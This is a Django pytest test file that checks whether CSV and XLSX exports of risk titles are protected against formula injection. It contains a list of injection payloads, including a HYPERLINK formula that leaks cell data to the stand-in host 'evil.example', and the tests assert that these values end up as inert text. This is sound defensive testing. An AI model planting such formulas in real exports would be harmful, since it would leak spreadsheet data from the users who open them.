"""Exports never run formulas (OWASP CSV injection), every export through
core/exports (issue 20)."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests.factories import RiskFactory

pytestmark = pytest.mark.django_db

EVIL = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize(
    "url_name", ["risks:export", "risks:export_all"], ids=["project", "all"]
)
def test_formula_titles_are_text_in_csv_and_xlsx(client, project, url_name):
    for title in EVIL:
        RiskFactory(project=project, title=title)
    client.force_login(project.manager)
    args = [project.pk] if url_name == "risks:export" else []

    csv_response = client.get(reverse(url_name, args=[*args, "csv"]))
    xlsx_response = client.get(reverse(url_name, args=[*args, "xlsx"]))

    assert csv_response.status_code == 200
    rows = list(csv.reader(io.StringIO(csv_response.content.decode("utf-8-sig"))))
    titles = {row[1] for row in rows[1:]}
    assert titles == {"'" + title for title in EVIL}

    sheet = load_workbook(io.BytesIO(xlsx_response.content)).active
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    # XML stores a carriage return as a line feed; the cell stays text.
    assert {cell.value for cell in cells} == {t.replace("\r", "\n") for t in EVIL}
    assert all(cell.data_type == "s" for cell in cells)  # text, never a formula


def test_plain_negative_numbers_stay_numbers(client, project):
    RiskFactory(project=project, title="Ordinary risk", probability=2, impact=3)
    client.force_login(project.manager)

    sheet = load_workbook(
        io.BytesIO(
            client.get(reverse("risks:export", args=[project.pk, "xlsx"])).content
        )
    ).active

    row = next(sheet.iter_rows(min_row=2))
    assert row[1].value == "Ordinary risk"
    assert any(cell.data_type == "n" and cell.value == 6 for cell in row)
